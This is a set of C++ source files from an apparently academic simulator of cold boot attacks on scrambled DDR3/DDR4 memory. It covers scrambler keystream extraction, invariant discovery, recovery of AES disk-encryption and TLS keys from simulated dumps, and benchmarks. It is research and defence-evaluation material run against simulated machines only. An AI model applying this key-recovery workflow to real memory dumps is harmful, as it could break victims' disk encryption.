 * This is the workflow a researcher would run against an unknown
 * scrambler before writing an attack.
 */

#include <cstdio>
#include <map>
#include <memory>
#include <set>
#include <string>

#include "common/bits.hh"
#include "common/hex.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"

using namespace coldboot;
using namespace coldboot::platform;

namespace
{

Machine
makeAnalyzed(const char *cpu, uint64_t seed)
{
    BiosConfig bios;
    bios.boot_pollution_bytes = 0; // lab setting: clean dumps
    Machine machine(cpuModelByName(cpu), bios, 1, seed);
    bool ddr4 =
        memctrl::cpuUsesDdr4(machine.model().generation);
    machine.installDimm(0, std::make_shared<dram::DramModule>(
                               ddr4 ? dram::Generation::DDR4
                                    : dram::Generation::DDR3,
                               MiB(1), dram::DecayParams{}, seed + 1));
    return machine;
}

/** Count distinct 64-byte keys in a keystream image. */
size_t
distinctKeys(const MemoryImage &ks)
{
    std::set<std::string> keys;
    for (size_t l = 0; l < ks.lines(); ++l)
        keys.insert(toHex(ks.line(l)));
    return keys.size();
}

/**
 * Empirical invariant discovery: for every pair of 2-byte word
 * slots (i, j) within the first 16 bytes, test whether
 * W_i ^ W_j == W_{i+4} ^ W_{j+4} holds across all keys - the shape
 * of relation the paper published.
 */
void
discoverInvariants(const MemoryImage &ks)
{
    int found = 0;
    for (unsigned i = 0; i < 4; ++i) {
        for (unsigned j = i + 1; j < 4; ++j) {
            bool holds = true;
            for (size_t l = 0; l < ks.lines() && holds; l += 17) {
                auto key = ks.line(l);
                for (unsigned base = 0; base < 64 && holds;
                     base += 16) {
                    uint16_t lhs = static_cast<uint16_t>(
                        loadLE16(&key[base + 2 * i]) ^
                        loadLE16(&key[base + 2 * j]));
                    uint16_t rhs = static_cast<uint16_t>(
                        loadLE16(&key[base + 8 + 2 * i]) ^
                        loadLE16(&key[base + 8 + 2 * j]));
                    holds = lhs == rhs;
                }
            }
            if (holds) {
                std::printf("    invariant: K[%u:%u]^K[%u:%u] == "
                            "K[%u:%u]^K[%u:%u]  (per 16B word)\n",
                            2 * i, 2 * i + 1, 2 * j, 2 * j + 1,
                            8 + 2 * i, 8 + 2 * i + 1, 8 + 2 * j,
                            8 + 2 * j + 1);
                ++found;
            }
        }
    }
    std::printf("    -> %d byte-pair invariant families hold across "
                "every key\n",
                found);
}

} // anonymous namespace

int
main()
{
    for (const char *cpu : {"i5-2540M", "i5-6400"}) {
        Machine machine = makeAnalyzed(cpu, 0xA11A);
        std::printf("=== analyzing %s (%s) ===\n", cpu,
                    memctrl::cpuGenerationName(
                        machine.model().generation));

        std::printf("  step 1: fill DIMM with unscrambled zeros on a "
                    "donor machine,\n          move it over, boot, "
                    "dump -> raw keystream\n");
        MemoryImage ks1 = reverseColdBootExtractKeystream(machine, 0);
        std::printf("  step 2: count distinct 64-byte keys: %zu\n",
                    distinctKeys(ks1));

        machine.shutdown();
        MemoryImage ks2 = reverseColdBootExtractKeystream(machine, 0);
        machine.shutdown();

        // Reboot factoring check.
        MemoryImage x(ks1.size());
        auto xb = x.bytesMutable();
        for (size_t i = 0; i < x.size(); ++i)
            xb[i] = static_cast<uint8_t>(ks1.bytes()[i] ^
                                         ks2.bytes()[i]);
        std::printf("  step 3: XOR keystreams from two boots -> %zu "
                    "distinct patterns %s\n",
                    distinctKeys(x),
                    distinctKeys(x) == 1
                        ? "(single universal key: DDR3 weakness)"
                        : "(no universal key)");

        std::printf("  step 4: search for byte-pair invariants:\n");
        discoverInvariants(ks1);

        // Step 5 needs two extractions under the SAME seed, so use a
        // machine whose BIOS reuses its scrambler seed across boots
        // (a real vendor behaviour the paper observed).
        std::printf("  step 5: ground-state variant cross-check "
                    "(seed-reusing BIOS)... ");
        Machine lazy = makeAnalyzed(cpu, 0xB22B);
        lazy.bios().reset_seed_each_boot = false;
        MemoryImage zero_fill =
            reverseColdBootExtractKeystream(lazy, 0);
        lazy.shutdown();
        MemoryImage ground = groundStateExtractKeystream(lazy, 0);
        lazy.shutdown();
        std::printf("%s\n",
                    ground.identicalLines(zero_fill) ==
                            zero_fill.lines()
                        ? "matches the zero-fill extraction"
                        : "MISMATCH");
        std::printf("\n");
    }
    return 0;
}
