/**
 * @file
 * Quickstart: build a simulated Skylake machine, watch the DDR4
 * scrambler at work, and run the two litmus tests that power the
 * cold boot attack.
 *
 * Build & run:
 *   cmake -B build -G Ninja && cmake --build build
 *   ./build/examples/quickstart
 */

#include <cstdio>
#include <memory>
#include <vector>

#include "attack/litmus.hh"
#include "common/hex.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "dram/dram_module.hh"
#include "platform/machine.hh"

using namespace coldboot;
using namespace coldboot::platform;

int
main()
{
    // A Skylake desktop with one 1 MiB DDR4 DIMM (tiny, for speed).
    Machine machine(cpuModelByName("i5-6400"), BiosConfig{}, 1,
                    /*entropy_seed=*/2026);
    auto dimm = std::make_shared<dram::DramModule>(
        dram::Generation::DDR4, MiB(1), dram::DecayParams{}, 7);
    machine.installDimm(0, dimm);
    machine.boot();
    std::printf("booted %s (%s), %llu KiB of DDR4\n",
                machine.model().name.c_str(),
                memctrl::cpuGenerationName(
                    machine.model().generation),
                static_cast<unsigned long long>(
                    machine.capacity() >> 10));

    // 1. Software sees what it wrote...
    std::vector<uint8_t> zeros(64, 0);
    machine.writePhys(KiB(512), zeros);
    std::vector<uint8_t> back(64);
    machine.readPhys(KiB(512), back);
    std::printf("\nsoftware view of the zero line : %.16s...\n",
                toHex({back.data(), 8}).c_str());

    // 2. ...but the DRAM itself holds the scrambled version - which,
    // for a zero block, IS the scrambler key.
    std::vector<uint8_t> raw(64);
    dimm->read(KiB(512), raw);
    std::printf("raw DRAM contents (= the key)  : %s...\n",
                toHex({raw.data(), 8}).c_str());

    // 3. The scrambler-key litmus test recognizes it instantly.
    std::printf("scrambler-key litmus test      : %s (score %u)\n",
                attack::scramblerKeyLitmus(raw, 0) ? "PASS" : "fail",
                attack::scramblerKeyLitmusScore(raw));

    // 4. The AES key litmus test recognizes schedule fragments. Put
    // an expanded AES-256 key in memory, as disk encryption would.
    std::vector<uint8_t> aes_key(32, 0x42);
    auto schedule = crypto::aesExpandKey(aes_key);
    machine.writePhysBytes(KiB(256), schedule);

    std::vector<uint8_t> block(64);
    machine.readPhys(KiB(256) + 64, block); // mid-schedule block
    auto hit = attack::aesKeyLitmus(block, crypto::AesKeySize::Aes256);
    if (hit) {
        std::printf("AES key litmus on a mid-table  : HIT at schedule "
                    "word %u (errors: %u)\n",
                    hit->start_word, hit->bit_errors);
    }

    std::printf("\nNext steps: examples/cold_boot_attack for the full "
                "attack,\nexamples/scrambler_analysis for the "
                "reverse-cold-boot framework,\nexamples/"
                "encrypted_memory for the zero-latency defence.\n");
    return 0;
}
