/**
 * @file
 * Memory forensics walkthrough: scan one scrambled DDR4 dump for key
 * schedules of EVERY AES variant at once (the multi-key-size
 * pipeline), and contrast with the classic plaintext-only baseline.
 *
 * Scenario: besides the VeraCrypt volume (AES-256 XTS), the victim
 * machine also holds an application's AES-128 session key schedule -
 * e.g. a TLS record-layer context - somewhere in its heap.
 */

#include <cstdio>
#include <cstring>
#include <memory>
#include <vector>

#include "attack/attack_pipeline.hh"
#include "attack/halderman_search.hh"
#include "common/hex.hh"
#include "common/logging.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "dram/dram_module.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

using namespace coldboot;
using namespace coldboot::platform;
using crypto::AesKeySize;

int
main()
{
    setLogLevel(LogLevel::Warn);

    // --- Victim with two different in-memory key artifacts.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 314);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, MiB(4),
                              dram::DecayParams{}, 315));
    victim.boot();
    fillWorkload(victim, {}, 316);

    auto vf = volume::VolumeFile::create("pw", 8, 317);
    auto mounted =
        volume::MountedVolume::mount(victim, vf, "pw", MiB(3) + 16);

    std::vector<uint8_t> tls_key(16);
    for (size_t i = 0; i < tls_key.size(); ++i)
        tls_key[i] = static_cast<uint8_t>(0xA0 + i);
    auto tls_sched = crypto::aesExpandKey(tls_key);
    victim.writePhysBytes(MiB(2) + 512 + 16, tls_sched);
    std::printf("[victim] volume mounted (AES-256 XTS) and a TLS "
                "AES-128 schedule cached in heap\n");

    // --- Capture.
    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     318);
    auto cold = coldBootTransfer(victim, attacker, 0);
    std::printf("[dump  ] %zu MiB captured, %.2f%% bits decayed\n",
                cold.dump.size() >> 20,
                100.0 * static_cast<double>(cold.bits_flipped) /
                    (static_cast<double>(cold.dump.size()) * 8));

    // --- Forensic sweep: all three AES variants in one pass.
    attack::PipelineParams params;
    params.key_sizes = {AesKeySize::Aes128, AesKeySize::Aes192,
                        AesKeySize::Aes256};
    auto report = attack::runColdBootAttack(cold.dump, params);

    std::printf("[attack] recovered %zu key schedule(s):\n",
                report.recovered.size());
    for (const auto &rec : report.recovered) {
        std::printf("  AES-%zu key at dump offset 0x%llx: %s...\n",
                    static_cast<size_t>(rec.key_size) * 8,
                    static_cast<unsigned long long>(
                        rec.table_offset),
                    toHex({rec.master.data(), 8}).c_str());
    }

    bool tls_found = false;
    for (const auto &rec : report.recovered)
        tls_found = tls_found || rec.master == tls_key;
    std::printf("[attack] TLS session key recovered: %s\n",
                tls_found ? "YES" : "no");
    std::printf("[attack] XTS master pairs: %zu\n",
                report.xts_pairs.size());

    // --- The baseline for contrast.
    auto baseline = attack::haldermanSearch(cold.dump);
    std::printf("[bsline] Halderman-2008 on the scrambled dump: %zu "
                "key(s) (needs plaintext)\n",
                baseline.size());

    return tls_found && !report.xts_pairs.empty() ? 0 : 1;
}
