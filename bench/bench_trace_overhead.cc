/**
 * @file
 * Observability tax: how much does causal tracing + the flight
 * recorder cost a key-mining sweep?
 *
 * The deep-profiling layer is sold as "cheap enough to leave on";
 * this bench holds it to that. The same cold-boot dump is mined
 * twice per repetition - once with the tracer and flight recorder
 * off, once with both on (plus span-perf attribution when the
 * machine allows it) - and the overhead lands in BENCH.json where
 * `bench_compare` turns a tracing-cost regression into a CI failure.
 *
 * Determinism cross-check rides along for free: both sweeps must
 * mine byte-identical key sets (DESIGN.md §9/§12), so a divergence
 * here fails loudly before the smoke gate even runs.
 */

#include <chrono>
#include <cstdio>
#include <memory>
#include <string>

#include "attack/key_miner.hh"
#include "common/logging.hh"
#include "common/units.hh"
#include "dram/dram_module.hh"
#include "obs/bench.hh"
#include "obs/flight.hh"
#include "obs/trace.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"

using namespace coldboot;
using namespace coldboot::platform;
using namespace coldboot::attack;

namespace
{

double
mineOnce(const MemoryImage &dump)
{
    MinerParams params;
    auto t0 = std::chrono::steady_clock::now();
    auto mined = mineScramblerKeys(dump, params);
    double secs = std::chrono::duration<double>(
                      std::chrono::steady_clock::now() - t0)
                      .count();
    // Fold the result into a cheap fingerprint so the two variants
    // can be compared (and the sweep cannot be optimized away).
    uint64_t fp = mined.size();
    for (const auto &mk : mined)
        for (uint8_t b : mk.key)
            fp = fp * 1099511628211ull + b;
    static uint64_t first_fp = 0;
    if (first_fp == 0)
        first_fp = fp ? fp : 1;
    else if (fp != first_fp && fp != 0)
        cb_fatal("trace_overhead: mined keys diverged between "
                 "traced and untraced sweeps");
    return secs;
}

} // anonymous namespace

COLDBOOT_BENCH(trace_overhead)
{
    const uint64_t victim_bytes = ctx.pick(MiB(8), MiB(2));

    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 701);
    victim.installDimm(0, std::make_shared<dram::DramModule>(
                              dram::Generation::DDR4, victim_bytes,
                              dram::DecayParams{}, 702));
    victim.boot();
    fillWorkload(victim, {}, 703);
    Machine attacker(cpuModelByName("i5-6600K"), BiosConfig{}, 1,
                     704);
    auto cold = coldBootTransfer(victim, attacker, 0);

    obs::PhaseTracer &tracer = obs::PhaseTracer::global();
    obs::FlightRecorder &flight = obs::FlightRecorder::global();
    const bool was_tracing = tracer.enabled();
    const bool was_flight = flight.enabled();
    const bool was_span_perf = obs::PhaseTracer::spanPerfEnabled();

    // Off: no spans, no flight rings.
    tracer.setEnabled(false);
    flight.setEnabled(false);
    obs::PhaseTracer::setSpanPerfEnabled(false);
    double off_secs = mineOnce(cold.dump);

    // On: spans + flow events + flight rings + span perf deltas.
    tracer.setEnabled(true);
    flight.setEnabled(true);
    obs::PhaseTracer::setSpanPerfEnabled(true);
    double on_secs = mineOnce(cold.dump);

    tracer.setEnabled(was_tracing);
    flight.setEnabled(was_flight);
    obs::PhaseTracer::setSpanPerfEnabled(was_span_perf);

    double overhead_pct =
        off_secs > 0.0 ? (on_secs - off_secs) / off_secs * 100.0
                       : 0.0;
    std::printf("trace_overhead: mine %zu MiB  off %.4fs  on %.4fs  "
                "overhead %+.2f%%\n",
                cold.dump.size() >> 20, off_secs, on_secs,
                overhead_pct);

    ctx.report("trace_overhead.off_seconds", off_secs,
               "mining sweep, tracing+flight disabled");
    ctx.report("trace_overhead.on_seconds", on_secs,
               "mining sweep, tracing+flight+span-perf enabled");
    ctx.report("trace_overhead.overhead_percent", overhead_pct,
               "relative cost of the observability layer");
    ctx.setBytesProcessed(2 * cold.dump.size());
}
