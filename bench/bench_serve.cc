/**
 * @file
 * Analysis-service benches:
 *
 *   serve_jobs      in-process JobScheduler driving full attack
 *                   sessions on a planted scrambled dump: single-job
 *                   submit-to-result latency, batch throughput over
 *                   three competing clients, cancel-to-terminal
 *                   latency, and the byte-identity gate across pool
 *                   widths 1 and 4;
 *   serve_protocol  JobServer + JobClient over loopback: status and
 *                   list round-trips per second on a live daemon
 *                   holding a finished job.
 *
 * Both register into the smoke profile, so smoke_bench_json and
 * `bench_compare --self` gate them like every other bench.
 */

#include <chrono>
#include <cstdio>
#include <cstring>
#include <string>
#include <vector>

#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "exec/thread_pool.hh"
#include "memctrl/scrambler.hh"
#include "obs/bench.hh"
#include "serve/client.hh"
#include "serve/protocol.hh"
#include "serve/scheduler.hh"
#include "serve/server.hh"

using namespace coldboot;

namespace
{

/**
 * Scratch dump with planted scrambler keys and one planted XTS
 * keytable, so served attack jobs do real mining + search + pairing
 * work and return non-trivial results.
 */
void
writeServeDump(const std::string &path, size_t len, unsigned planted,
               unsigned copies)
{
    std::vector<uint8_t> bytes(len);
    Xoshiro256StarStar rng(0x5E21);
    rng.fillBytes(bytes);
    size_t lines = len / 64;

    memctrl::Ddr4Scrambler scr(0xBEEF, 0);
    std::vector<std::vector<uint8_t>> keys(planted,
                                           std::vector<uint8_t>(64));
    for (unsigned k = 0; k < planted; ++k) {
        scr.poolKey(k * 61 % 4096, keys[k].data());
        for (unsigned copy = 0; copy < copies; ++copy) {
            size_t line = (k * copies + copy + 11) * 397 % lines;
            std::memcpy(&bytes[line * 64], keys[k].data(), 64);
        }
    }

    std::vector<uint8_t> master(64);
    Xoshiro256StarStar key_rng(0x1234);
    key_rng.fillBytes(master);
    auto data_sched = crypto::aesExpandKey({master.data(), 32});
    auto tweak_sched = crypto::aesExpandKey({master.data() + 32, 32});
    uint64_t table_off = (lines / 3) * 64;
    for (size_t i = 0; i < data_sched.size(); ++i)
        bytes[table_off + i] =
            data_sched[i] ^ keys[1][(table_off + i) & 63];
    uint64_t tweak_off = table_off + data_sched.size();
    for (size_t i = 0; i < tweak_sched.size(); ++i)
        bytes[tweak_off + i] =
            tweak_sched[i] ^ keys[1][(tweak_off + i) & 63];

    std::FILE *f = std::fopen(path.c_str(), "wb");
    if (f != nullptr) {
        std::fwrite(bytes.data(), 1, bytes.size(), f);
        std::fclose(f);
    }
}

serve::JobSpec
attackSpec(const std::string &path, const std::string &client_id)
{
    serve::JobSpec spec;
    spec.kind = serve::JobKind::Attack;
    spec.dump_path = path;
    spec.client_id = client_id;
    return spec;
}

double
secondsSince(std::chrono::steady_clock::time_point t0)
{
    return std::chrono::duration<double>(
               std::chrono::steady_clock::now() - t0)
        .count();
}

} // anonymous namespace

COLDBOOT_BENCH(serve_jobs)
{
    const size_t dump_bytes = ctx.pick(MiB(8), MiB(2));
    const size_t batch_jobs = ctx.pick<size_t>(9, 3);
    const std::string dump_path = "serve_jobs.scratch";
    writeServeDump(dump_path, dump_bytes, 4, 6);

    std::printf("serve: scheduler latency/throughput (%zu MiB dump, "
                "%zu-job batch)\n\n",
                dump_bytes >> 20, batch_jobs);

    // Single job, submit to result, on an otherwise idle scheduler.
    double latency_ms = 0.0;
    std::string reference_text;
    {
        serve::JobScheduler sched;
        std::string error;
        auto t0 = std::chrono::steady_clock::now();
        uint64_t id =
            sched.submit(attackSpec(dump_path, "bench"), &error);
        serve::JobResult res;
        bool ok = id != 0 && sched.waitResult(id, &res) &&
                  res.state == serve::JobState::Done;
        latency_ms = secondsSince(t0) * 1e3;
        if (!ok) {
            std::printf("!! single job failed: %s\n", error.c_str());
        } else {
            reference_text = res.text;
        }
        std::printf("%-28s %10.1f ms\n", "submit-to-result latency",
                    latency_ms);
    }
    ctx.report("serve_jobs.latency_ms", latency_ms,
               "one attack job, submit to result, idle scheduler");

    // A batch across three competing clients, admitted fair-share.
    double jobs_per_s = 0.0;
    {
        serve::SchedulerOptions opts;
        opts.max_concurrent_jobs = 3;
        serve::JobScheduler sched(opts);
        std::string error;
        std::vector<uint64_t> ids;
        auto t0 = std::chrono::steady_clock::now();
        for (size_t i = 0; i < batch_jobs; ++i) {
            const char *client =
                i % 3 == 0 ? "alice" : (i % 3 == 1 ? "bob" : "carol");
            uint64_t id =
                sched.submit(attackSpec(dump_path, client), &error);
            if (id != 0)
                ids.push_back(id);
        }
        size_t done = 0;
        for (uint64_t id : ids) {
            serve::JobResult res;
            if (sched.waitResult(id, &res) &&
                res.state == serve::JobState::Done &&
                res.text == reference_text)
                ++done;
        }
        double secs = secondsSince(t0);
        jobs_per_s = secs > 0.0 ? static_cast<double>(done) / secs
                                : 0.0;
        std::printf("%-28s %10.2f jobs/s (%zu/%zu done)\n",
                    "3-client batch throughput", jobs_per_s, done,
                    ids.size());
    }
    ctx.report("serve_jobs.jobs_per_second", jobs_per_s,
               "attack jobs completed per second, three clients, "
               "max_concurrent_jobs=3");

    // Cancel-to-terminal latency on a live job.
    double cancel_ms = 0.0;
    {
        serve::JobScheduler sched;
        std::string error;
        uint64_t id =
            sched.submit(attackSpec(dump_path, "bench"), &error);
        if (id != 0) {
            auto t0 = std::chrono::steady_clock::now();
            sched.cancel(id);
            serve::JobResult res;
            sched.waitResult(id, &res);
            cancel_ms = secondsSince(t0) * 1e3;
        }
        std::printf("%-28s %10.2f ms\n", "cancel-to-terminal",
                    cancel_ms);
    }
    ctx.report("serve_jobs.cancel_ms", cancel_ms,
               "cancel() to terminal state on a live job");

    // Determinism gate: served results byte-identical at widths 1
    // and 4 (the scheduler steps sessions on the global pool).
    bool identical = true;
    for (unsigned w : {1u, 4u}) {
        exec::ThreadPool pool(w);
        exec::ThreadPool::ScopedGlobalOverride ov(pool);
        serve::JobScheduler sched;
        std::string error;
        uint64_t id =
            sched.submit(attackSpec(dump_path, "bench"), &error);
        serve::JobResult res;
        if (id == 0 || !sched.waitResult(id, &res) ||
            res.text != reference_text) {
            identical = false;
            std::printf("!! width %u produced DIFFERENT results\n",
                        w);
        }
        sched.shutdown();
    }
    ctx.report("serve_jobs.results_identical", identical ? 1.0 : 0.0,
               "1 when pool widths 1 and 4 returned byte-identical "
               "job results");
    ctx.setBytesProcessed(static_cast<uint64_t>(dump_bytes) *
                          (batch_jobs + 3));
    std::remove(dump_path.c_str());

    std::printf("\nExpected shape: batch throughput above the "
                "single-job rate (admission\noverlap), cancel "
                "latency bounded by one scan chunk, identical "
                "results\nat every width.\n");
}

COLDBOOT_BENCH(serve_protocol)
{
    const size_t round_trips = ctx.pick<size_t>(4000, 400);
    const std::string dump_path = "serve_protocol.scratch";
    writeServeDump(dump_path, MiB(1), 2, 6);

    serve::JobServer server;
    std::string error;
    if (!server.start(&error)) {
        std::printf("serve: cannot bind loopback (%s); skipping\n",
                    error.c_str());
        std::remove(dump_path.c_str());
        return;
    }
    serve::JobClient client;
    if (!client.connect("127.0.0.1", server.port(), &error)) {
        std::printf("serve: cannot connect (%s); skipping\n",
                    error.c_str());
        std::remove(dump_path.c_str());
        return;
    }

    // One finished mine job so status/list marshal real payloads.
    serve::JobSpec spec;
    spec.kind = serve::JobKind::Mine;
    spec.dump_path = dump_path;
    uint64_t id = client.submit(spec, &error);
    serve::JobResult res;
    if (id == 0 || !client.result(id, &res, &error)) {
        std::printf("serve: seed job failed (%s); skipping\n",
                    error.c_str());
        std::remove(dump_path.c_str());
        return;
    }

    std::printf("serve: protocol round-trips over loopback (%zu "
                "each)\n\n",
                round_trips);
    std::printf("%10s %12s %14s\n", "request", "seconds", "req/s");

    struct Leg
    {
        const char *name;
        double per_second;
    };
    std::vector<Leg> legs;
    {
        auto t0 = std::chrono::steady_clock::now();
        size_t ok = 0;
        for (size_t i = 0; i < round_trips; ++i) {
            serve::JobStatus st;
            if (client.status(id, &st, &error))
                ++ok;
        }
        double secs = secondsSince(t0);
        legs.push_back(
            {"status",
             secs > 0.0 ? static_cast<double>(ok) / secs : 0.0});
    }
    {
        auto t0 = std::chrono::steady_clock::now();
        size_t ok = 0;
        for (size_t i = 0; i < round_trips; ++i) {
            std::vector<serve::JobStatus> jobs;
            if (client.list(&jobs, &error) && !jobs.empty())
                ++ok;
        }
        double secs = secondsSince(t0);
        legs.push_back(
            {"list",
             secs > 0.0 ? static_cast<double>(ok) / secs : 0.0});
    }
    for (const auto &leg : legs) {
        std::printf("%10s %12s %14.0f\n", leg.name, "-",
                    leg.per_second);
        ctx.report(std::string("serve_protocol.") + leg.name +
                       ".requests_per_second",
                   leg.per_second,
                   "loopback request round-trips per second");
    }
    server.stop();
    std::remove(dump_path.c_str());

    std::printf("\nExpected shape: tens of thousands of round-trips "
                "per second - the\nframed codec, not the socket, is "
                "the bound.\n");
}
