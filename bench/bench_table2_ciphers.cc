/**
 * @file
 * E6 - Table II: cipher engine performance (45 nm).
 *
 * Prints the modeled maximum frequency, cycles per 64-byte keystream
 * and maximum pipeline delay of the five engines side by side with
 * the paper's synthesis numbers, plus the derived viability verdict
 * against the minimum standard DDR4 column access window (12.5 ns).
 */

#include <cstdio>
#include <string>

#include "common/units.hh"
#include "dram/timing.hh"
#include "engine/cipher_engine.hh"
#include "obs/bench.hh"

using namespace coldboot;
using namespace coldboot::engine;

COLDBOOT_BENCH(table2_ciphers)
{
    std::printf("E6: Table II cipher engine performance (45 nm "
                "model)\n\n");
    std::printf("%-10s %10s %10s %12s %12s %12s %10s\n", "cipher",
                "freq GHz", "cyc/64B", "delay ns", "paper ns",
                "tput GB/s", "<=12.5ns");
    std::printf("%.82s\n",
                "-----------------------------------------------------"
                "-----------------------------");

    struct PaperRow
    {
        CipherKind kind;
        double delay_ns;
    };
    const PaperRow paper[] = {
        {CipherKind::Aes128, 5.40},  {CipherKind::Aes256, 7.08},
        {CipherKind::ChaCha8, 9.18}, {CipherKind::ChaCha12, 13.27},
        {CipherKind::ChaCha20, 21.42},
    };

    Picoseconds window = dram::ddr4MinCasPs();
    for (const auto &row : paper) {
        const EngineSpec &spec = engineSpec(row.kind);
        std::printf("%-10s %10.2f %10d %12.2f %12.2f %12.1f %10s\n",
                    cipherKindName(spec.kind), spec.max_freq_ghz,
                    spec.cycles_per_line,
                    psToNs(spec.pipelineDelayPs()), row.delay_ns,
                    spec.throughputGBs(),
                    spec.pipelineDelayPs() <= window ? "yes" : "no");
        std::string prefix = std::string("table2.") +
                             cipherKindName(spec.kind);
        ctx.report(prefix + ".max_freq_ghz", spec.max_freq_ghz,
                   "modeled maximum clock frequency");
        ctx.report(prefix + ".pipeline_delay_ns",
                   psToNs(spec.pipelineDelayPs()),
                   "modeled maximum pipeline delay");
        ctx.report(prefix + ".throughput_gbs", spec.throughputGBs(),
                   "derived keystream throughput");
    }

    std::printf("\nStandard DDR4 CAS window: %.2f .. %.2f ns over "
                "the nine JESD79-4 grades.\n",
                psToNs(dram::ddr4MinCasPs()),
                psToNs(dram::ddr4MaxCasPs()));
    std::printf("Expected shape: AES-128, AES-256 and ChaCha8 fit "
                "under the 12.5 ns floor;\nChaCha12 and ChaCha20 do "
                "not.\n");
}
