/**
 * @file
 * Ablations of the attack-pipeline design choices:
 *
 *  A1  schedule repair (Gallager bit-flipping + word agreement) on
 *      vs off, across decay rates - recovery success of the key
 *      table search;
 *  A2  the per-check litmus cap - wrong-placement acceptance rate on
 *      decayed schedule blocks;
 *  A3  the entropy guard - fraction of descramble attempts that the
 *      guard spares from the (more expensive) litmus test;
 *  A4  candidate key-pool size - scan cost scaling from a DDR3-sized
 *      pool (16) to a DDR4-sized pool (4096).
 */

#include <chrono>
#include <cstdio>
#include <cstring>
#include <vector>

#include "attack/aes_search.hh"
#include "attack/litmus.hh"
#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/aes.hh"
#include "memctrl/scrambler.hh"
#include "obs/bench.hh"
#include "platform/memory_image.hh"
#include "platform/workload.hh"

using namespace coldboot;
using namespace coldboot::attack;

namespace
{

// coldboot-lint: allow(wipe-coverage) -- synthetic benchmark dump, not real key material
struct MiniDump
{
    platform::MemoryImage dump{KiB(64)};
    std::vector<MinedKey> keys;
    std::vector<uint8_t> master;
};

/** 64 KiB scrambled dump, one AES-256 schedule, pool-limited keys. */
MiniDump
makeMiniDump(uint64_t seed, unsigned pool_keys, double flip_rate)
{
    MiniDump m;
    memctrl::Ddr4Scrambler scr(seed, 0);
    Xoshiro256StarStar rng(seed + 1);

    std::vector<uint8_t> plain(m.dump.size());
    rng.fillBytes(plain);
    m.master.resize(32);
    rng.fillBytes(m.master);
    auto sched = crypto::aesExpandKey(m.master);
    uint64_t table_addr = KiB(32) + 16;
    std::memcpy(&plain[table_addr], sched.data(), sched.size());

    auto bytes = m.dump.bytesMutable();
    for (uint64_t off = 0; off < plain.size(); off += 64)
        scr.apply(off, {&plain[off], 64}, bytes.subspan(off, 64));

    // Decay.
    uint64_t flips = static_cast<uint64_t>(
        flip_rate * static_cast<double>(m.dump.size()) * 8);
    for (uint64_t f = 0; f < flips; ++f) {
        uint64_t bit = rng.nextBelow(m.dump.size() * 8);
        bytes[bit / 8] ^= static_cast<uint8_t>(1u << (bit % 8));
    }

    // Candidate pool: the keys the dump actually uses (64 KiB covers
    // indices 0..1023) truncated/extended to pool_keys entries.
    for (unsigned idx = 0; idx < pool_keys; ++idx) {
        MinedKey mk;
        scr.poolKey(idx, mk.key.data());
        mk.occurrences = 2;
        mk.first_offset = 0;
        m.keys.push_back(mk);
    }
    return m;
}

void
ablateRepair(obs::bench::BenchContext &ctx)
{
    const int trials = ctx.pick(10, 3);
    std::vector<double> rates =
        ctx.smoke() ? std::vector<double>{0.01, 0.02}
                    : std::vector<double>{0.005, 0.01, 0.02, 0.03,
                                          0.04};
    std::printf("A1: schedule repair on/off - recovery success over "
                "%d trials per point\n",
                trials);
    std::printf("%12s %14s %14s\n", "flip rate", "repair on",
                "repair off");
    for (double rate : rates) {
        int ok_on = 0, ok_off = 0;
        for (int trial = 0; trial < trials; ++trial) {
            auto m = makeMiniDump(1000 + trial, 1024, rate);
            for (bool repair : {true, false}) {
                SearchParams params;
                params.repair_iterations = repair ? 8 : 0;
                auto found =
                    searchAesKeyTables(m.dump, m.keys, params);
                bool ok = !found.empty() &&
                          found[0].master == m.master;
                (repair ? ok_on : ok_off) += ok;
            }
        }
        std::printf("%11.1f%% %11d/%-2d %11d/%-2d\n", rate * 100,
                    ok_on, trials, ok_off, trials);
        if (rate == 0.02) {
            ctx.report("ablation.repair_on.recovered_2pct",
                       static_cast<double>(ok_on) / trials,
                       "recovery rate at 2% decay, repair enabled");
            ctx.report("ablation.repair_off.recovered_2pct",
                       static_cast<double>(ok_off) / trials,
                       "recovery rate at 2% decay, repair disabled");
        }
    }
    std::printf("Expected: repair extends recovery to realistic "
                "cooled-transfer decay rates\n(~2%%); without it, "
                "recovery needs a nearly clean dump.\n\n");
}

void
ablatePerCheckCap(obs::bench::BenchContext &ctx)
{
    std::printf("A2: per-check litmus cap - placement accuracy on "
                "decayed schedule blocks\n");
    Xoshiro256StarStar rng(77);
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);

    const int trials = ctx.pick(2000, 300);
    for (unsigned cap : {12u, 32u, 512u}) {
        int correct = 0, congruent = 0, incongruent = 0, missed = 0;
        for (int t = 0; t < trials; ++t) {
            unsigned placement = static_cast<unsigned>(
                rng.nextBelow(12));
            uint8_t block[64];
            std::memcpy(block, &sched[16 * placement], 64);
            for (int f = 0; f < 10; ++f) { // ~2% decay
                unsigned bit =
                    static_cast<unsigned>(rng.nextBelow(512));
                block[bit / 8] ^=
                    static_cast<uint8_t>(1u << (bit % 8));
            }
            auto hit = aesKeyLitmus({block, 64},
                                    crypto::AesKeySize::Aes256, 64,
                                    cap);
            if (!hit)
                ++missed;
            else if (hit->start_word == placement * 4)
                ++correct;
            else if (hit->start_word % 8 == (placement * 4) % 8)
                ++congruent;
            else
                ++incongruent;
        }
        std::printf("  cap=%3u: correct %4d  wrong-congruent %4d  "
                    "wrong-incongruent %4d  missed %4d\n",
                    cap, correct, congruent, incongruent, missed);
        if (cap == 12)
            ctx.report("ablation.litmus_cap12.incongruent",
                       static_cast<double>(incongruent),
                       "wrong-incongruent placements accepted");
    }
    std::printf(
